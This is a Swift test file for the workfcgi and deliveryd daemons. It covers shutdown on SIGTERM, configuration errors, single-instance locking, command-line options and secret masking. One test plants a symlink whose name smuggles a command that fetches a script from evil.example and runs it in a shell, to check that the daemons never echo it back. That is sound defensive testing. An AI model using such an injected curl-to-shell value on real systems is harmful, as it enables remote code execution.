import Foundation
import Harness
import Synchronization
import Testing

/// Start-up and shutdown: SIGTERM drains in-flight work and exits 0; bad configuration stops at start.
@Suite(.serialized, .timeLimit(.minutes(2))) struct LifecycleTests {
    @Test func sigtermDrainsInFlightSyncAndExitsZero() throws {
        let stack = try Stack()
        try stack.start()
        let result = Mutex<Int?>(nil)
        let done = DispatchSemaphore(value: 0)
        Thread {
            let r = try? HTTPClient().postJSON(stack.baseURL + "/sync", #"{"payload": {"operation": "hash", "complexity": 6}}"#)
            result.withLock { $0 = r?.status }
            done.signal()
        }.start()
        try stack.waitFor("sync in flight") {
            ((try? HTTPClient().get(stack.baseURL + "/healthz"))?.json?["sync_in_flight"] as? Int) == 1
        }
        let t0 = Date()
        let status = stack.stop(.workfcgi, timeout: 20)
        #expect(status == 0, "workfcgi must exit 0 on SIGTERM")
        #expect(Date().timeIntervalSince(t0) < 15)
        #expect(done.wait(timeout: .now() + 10) == .success)
        #expect(result.withLock { $0 } == 200, "the in-flight request completes")
        #expect(stack.stop(.deliveryd) == 0, "deliveryd must exit 0 on SIGTERM")
    }

    @Test func invalidConfigurationStopsAtStartNamingTheVariable() throws {
        for (name, value) in [("WORKFCGI_SYNC_CONCURRENCY", "zero"), ("WORKFCGI_RETRY_SCHEDULE", "soon")] {
            for binary in ["workfcgi", "deliveryd"] {
                let process = Process()
                process.executableURL = Stack.binDirectory.appendingPathComponent(binary)
                process.environment = ["PATH": "/usr/bin:/bin", name: value]
                let pipe = Pipe()
                process.standardError = pipe
                process.standardOutput = FileHandle.nullDevice
                try process.run()
                process.waitUntilExit()
                let message = String(decoding: pipe.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
                #expect(process.terminationStatus == 2)
                #expect(message.contains(name), "\(binary): \(message)")
            }
        }
    }

    @Test func aSecondInstanceRefusesAndLeavesTheFirstAlone() throws {
        let stack = try Stack()
        try stack.start()
        let run = stack.runDirectory
        let sockets = ["api.sock", "sync.sock", "deliveryd.sock"].map { run + "/" + $0 }
        let inodes = try sockets.map { try FileManager.default.attributesOfItem(atPath: $0)[.systemFileNumber] as? Int }
        for program in ["workfcgi", "deliveryd"] {
            let second = try Stack.run(
                "/usr/bin/env", stack.environment.map { "\($0.key)=\($0.value)" } + [Stack.binDirectory.appendingPathComponent(program).path])
            #expect(second.status != 0, "\(program): \(second.output)")
            #expect(second.output.contains("already running, pid "), "\(program): \(second.output)")
        }
        // The first instances' sockets are the very same files, and the stack still serves.
        #expect(try sockets.map { try FileManager.default.attributesOfItem(atPath: $0)[.systemFileNumber] as? Int } == inodes)
        #expect(try HTTPClient().get(stack.baseURL + "/healthz").status == 200)
    }

    /// The command as users type it, from the repository root after scripts/setup: nginx resolves a relative
    /// -c against its compiled prefix, which the set-up points at this checkout.
    @Test(.enabled(if: getuid() == 0, "scripts/setup links nginx's prefix only as root")) func nginxDashCWorksAsWritten() throws {
        let result = try Stack.run("/usr/bin/env", ["sh", "-c", "cd '\(Stack.packageRoot.path)' && \(Stack.nginxBinary) -c nginx/site.conf -t"])
        #expect(result.status == 0, "\(result.output)")
        #expect(result.output.contains("test is successful"), "\(result.output)")
    }

    @Test func commandLineHelpVersionAndCheckConfig() throws {
        let folder = NSTemporaryDirectory() + "cli-\(UUID().uuidString.prefix(8))"
        defer { try? FileManager.default.removeItem(atPath: folder) }
        func run(_ program: String, _ arguments: [String], env: [String] = []) throws -> (status: Int32, output: String) {
            try Stack.run("/usr/bin/env", ["-i", "PATH=/usr/bin:/bin", "WORKFCGI_RUN_DIR=\(folder)"] + env
                + [Stack.binDirectory.appendingPathComponent(program).path] + arguments)
        }
        for program in ["workfcgi", "deliveryd"] {
            let help = try run(program, ["--help"])
            #expect(help.status == 0 && help.output.contains("USAGE: \(program)"), "\(help.output)")
            #expect(try run(program, ["--version"]).output.hasPrefix("\(program) "))
            let unknown = try run(program, ["--frobnicate"])
            // EX_USAGE, as swift-argument-parser reports any command line it cannot read.
            #expect(unknown.status == 64 && unknown.output.contains("Unknown option '--frobnicate'"), "\(unknown.output)")
            let bad = try run(program, ["--check-config"], env: ["WORKFCGI_SYNC_WAIT=soon"])
            #expect(bad.status == 2 && bad.output.contains("WORKFCGI_SYNC_WAIT"), "\(bad.output)")
            let good = try run(program, ["--check-config"], env: ["WORKFCGI_WEBHOOK_SECRET=\(Stack.secret)"])
            #expect(good.status == 0 && good.output.contains("WORKFCGI_WEBHOOK_SECRET=(masked)") && good.output.contains("WORKFCGI_SYNC_WAIT=2s"), "\(good.output)")
            #expect(!good.output.contains(Stack.secret), "the secret is never printed")
        }
        // None of that started a daemon: no socket, no database.
        #expect(!FileManager.default.fileExists(atPath: folder + "/api.sock"))
        #expect(!FileManager.default.fileExists(atPath: folder + "/workfcgi.db"))
    }

    /// `--show-secret` shows the secret a deliveryd with these settings signs with and creates nothing; a run
    /// folder linked to an installed service's sockets (scripts/install-systemd) is refused by both daemons,
    /// with where that service's things are, instead of a second deliveryd on another database.
    @Test func showSecretCreatesNothingAndAServicesRunFolderIsRefused() throws {
        let folder = NSTemporaryDirectory() + "secret-\(UUID().uuidString.prefix(8))"
        defer { try? FileManager.default.removeItem(atPath: folder) }
        func run(_ program: String, _ arguments: [String], env: [String] = []) throws -> (status: Int32, output: String) {
            try Stack.run("/usr/bin/env", ["-i", "PATH=/usr/bin:/bin", "WORKFCGI_RUN_DIR=\(folder)"] + env
                + [Stack.binDirectory.appendingPathComponent(program).path] + arguments)
        }
        let none = try run("deliveryd", ["--show-secret"])
        #expect(none.status == 1 && none.output.contains("no secret yet") && none.output.contains("\(folder)/webhook-secret"), "\(none.output)")
        #expect(!FileManager.default.fileExists(atPath: folder), "nothing created: no folder, database or secret")
        try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: false, attributes: [.posixPermissions: 0o700])
        #expect(FileManager.default.createFile(atPath: folder + "/webhook-secret", contents: Data("\(Stack.secret)\n".utf8), attributes: [.posixPermissions: 0o600]))
        let shown = try run("deliveryd", ["--show-secret"])
        #expect(shown.status == 0 && shown.output == Stack.secret + "\n", "\(shown.output)")
        let other = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
        #expect(try run("deliveryd", ["--show-secret"], env: ["WORKFCGI_WEBHOOK_SECRET=\(other)"]).output == other + "\n")
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder) == ["webhook-secret"])
        // A file that holds no secret is named, its contents never printed (they could be anything: a
        // terminal escape, a mistyped secret).
        try Data("not a secret \u{1b}[2J".utf8).write(to: URL(fileURLWithPath: folder + "/webhook-secret"))
        let garbage = try run("deliveryd", ["--show-secret"])
        #expect(garbage.status == 1 && garbage.output.contains("does not hold a webhook secret") && !garbage.output.contains("not a secret"), "\(garbage.output)")
        try Data("\(Stack.secret)\n".utf8).write(to: URL(fileURLWithPath: folder + "/webhook-secret"))

        try FileManager.default.createSymbolicLink(atPath: folder + "/api.sock", withDestinationPath: "/run/svc/api.sock")
        let linked = try run("deliveryd", ["--show-secret"])
        #expect(linked.status == 1 && linked.output.contains("cat /var/lib/svc/webhook-secret"), "\(linked.output)")
        for program in ["deliveryd", "workfcgi"] {
            let refused = try run(program, [])
            #expect(refused.status == 1, "\(program): \(refused.output)")
            #expect(refused.output.contains("this run folder is the installed service's") && refused.output.contains("systemctl status svc svc-deliveryd"),
                "\(program): \(refused.output)")
        }
        #expect(Set(try FileManager.default.contentsOfDirectory(atPath: folder)) == ["webhook-secret", "api.sock"], "no database, no sockets")

        // A planted link whose "name" is a shell command is no service: never echoed as advice to run as root.
        try FileManager.default.removeItem(atPath: folder + "/api.sock")
        try FileManager.default.createSymbolicLink(atPath: folder + "/api.sock", withDestinationPath: "/run/x;curl -s evil.example|sh;/api.sock")
        for (program, arguments) in [("deliveryd", ["--show-secret"]), ("workfcgi", [])] {
            let planted = try run(program, arguments)
            #expect(!planted.output.contains("curl") && !planted.output.contains("systemctl"), "\(program): \(planted.output)")
        }
    }

    /// The README's commands in order after scripts/install-systemd: `systemctl start workfcgi`, then `swift run
    /// deliveryd` from the linked checkout says the service's deliveryd already runs and exits 0; with the service
    /// stopped the same command refuses (exit 1) naming `systemctl start`. The service's instance locks are played by
    /// this process holding them (read from /proc/locks, never taken by the daemon). Root only: it makes /run/NAME
    /// and /var/lib/NAME, and removes them after.
    @Test(.enabled(if: getuid() == 0, "makes /run/NAME and /var/lib/NAME")) func aLinkedCheckoutSaysTheServiceAlreadyRuns() throws {
        let name = "wfcl-\(UUID().uuidString.prefix(6).lowercased())"
        let folder = NSTemporaryDirectory() + "linked-\(UUID().uuidString.prefix(8))"
        let (runDir, stateDir) = ("/run/\(name)", "/var/lib/\(name)")
        defer { for path in [folder, runDir, stateDir] { try? FileManager.default.removeItem(atPath: path) } }
        for dir in [folder, runDir, stateDir] {
            try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: false, attributes: [.posixPermissions: 0o700])
        }
        try FileManager.default.createSymbolicLink(atPath: folder + "/api.sock", withDestinationPath: runDir + "/api.sock")
        func run(_ program: String) throws -> (status: Int32, output: String) {
            try Stack.run("/usr/bin/env", ["-i", "PATH=/usr/bin:/bin", "WORKFCGI_RUN_DIR=\(folder)", Stack.binDirectory.appendingPathComponent(program).path])
        }
        for (program, lock, unit) in [("deliveryd", stateDir + "/workfcgi.db-deliveryd.lock", "\(name)-deliveryd"), ("workfcgi", runDir + "/api.sock.lock", name)] {
            #expect(FileManager.default.createFile(atPath: lock, contents: Data(), attributes: [.posixPermissions: 0o600]))
            let stopped = try run(program)
            #expect(stopped.status == 1 && stopped.output.contains("systemctl start \(name) starts both"), "\(program): \(stopped.output)")
            let fd = open(lock, O_RDWR)
            #expect(fd >= 0 && flock(fd, LOCK_EX | LOCK_NB) == 0)
            let running = try run(program)
            #expect(running.status == 0, "\(program): \(running.output)")
            #expect(running.output.contains("\(program) already runs as the installed service \(unit).service (pid \(getpid())"), "\(program): \(running.output)")
            close(fd)
        }
        #expect(Set(try FileManager.default.contentsOfDirectory(atPath: folder)) == ["api.sock"], "nothing created in the linked folder")
    }
}
